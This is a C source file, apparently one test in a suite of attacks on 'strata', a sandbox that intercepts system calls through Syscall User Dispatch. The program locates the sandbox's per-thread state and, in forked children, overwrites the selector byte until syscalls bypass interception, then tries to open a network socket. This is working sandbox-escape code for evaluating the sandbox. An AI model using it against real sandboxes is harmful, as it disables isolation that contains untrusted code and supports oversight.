/* Attack 3b: switch interception off by writing one byte of strata's memory.
 * strata keeps each thread's Syscall User Dispatch selector byte in its
 * per-thread state, which GS base points at; the kernel reads that byte on
 * every syscall: BLOCK (1) sends it to strata, ALLOW (0) lets it through.
 * The strata gadget reveals the real GS base (strata virtualizes it for the
 * program). For every byte of that state that holds 1, a forked child sets
 * it to 0 and makes an arch_prctl(ARCH_GET_GS) from code strata has not
 * rewritten (jit_call): if the answer is the real
 * GS base, the call reached the kernel unseen, so the selector was hit and
 * interception is off; the child then calls socket(AF_INET) with that
 * syscall (jit_call), which only the kernel backstop can refuse. Children that crash or
 * hang (a wrong byte) are discarded. Natively GS base is 0: nothing
 * intercepts, and the socket succeeds. */
#include "attack.h"
#include <asm/prctl.h>
#include <poll.h>
#include <signal.h>

struct report {
    long off, res;
};

int main(void) {
    struct gadget g = find_gadget();
    unsigned long gs = 0;
    gadget_call(g.addr, SYS_arch_prctl, ARCH_GET_GS, (long)&gs, 0, 0, 0, 0);
    if (gs == 0) {
        printf("no per-thread strata state (GS base 0): nothing intercepts\n");
        return verdict(attempt("trapping syscall socket(AF_INET)", jit_call(SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0, 0)));
    }
    static struct mapping maps[512];
    int n = read_maps(maps, 512);
    uintptr_t end = gs;
    for (int i = 0; i < n; i++)
        if (gs >= maps[i].start && gs < maps[i].end && maps[i].perms[0] == 'r')
            end = maps[i].end;
    if (end > gs + 4096)
        end = gs + 4096;
    printf("strata's thread state at GS base %#lx (%lu bytes searched)\n", gs, (unsigned long)(end - gs));
    jit_call(SYS_getpid, 0, 0, 0, 0, 0, 0); /* (the page is made before any child wrecks anything) */
    int tried = 0, esc = 0, found = 0;
    for (uintptr_t a = gs; a < end && !found; a++) {
        if (*(volatile unsigned char *)a != 1)
            continue;
        tried++;
        int p[2];
        if (pipe(p) != 0)
            setup_failed("pipe");
        pid_t pid = fork();
        if (pid < 0)
            setup_failed("fork");
        if (pid == 0) {
            close(p[0]);
            /* strata may give the child a thread state of its own: same layout, maybe elsewhere */
            unsigned long mine = 0, seen = 0;
            gadget_call(g.addr, SYS_arch_prctl, ARCH_GET_GS, (long)&mine, 0, 0, 0, 0);
            *(volatile unsigned char *)(mine + (a - gs)) = 0;
            jit_call(SYS_arch_prctl, ARCH_GET_GS, (long)&seen, 0, 0, 0, 0);
            if (seen == mine) {
                struct report r = {(long)(a - gs), jit_call(SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0, 0)};
                gadget_call(g.addr, SYS_write, p[1], (long)&r, sizeof r, 0, 0, 0);
            }
            gadget_call(g.addr, SYS_exit_group, 0, 0, 0, 0, 0, 0);
        }
        close(p[1]);
        struct pollfd pfd = {.fd = p[0], .events = POLLIN};
        struct report r;
        if (poll(&pfd, 1, 2000) > 0 && read(p[0], &r, sizeof r) == sizeof r) {
            found = 1;
            printf("selector found at GS base + %ld: a trapping syscall now reaches the kernel unseen by strata\n", r.off);
            esc |= attempt("with interception off: trapping syscall socket(AF_INET)", r.res);
        }
        kill(pid, SIGKILL);
        waitpid(pid, NULL, 0);
        close(p[0]);
    }
    if (!found)
        printf("no byte of %d candidates turned interception off\n", tried);
    return verdict(esc);
}
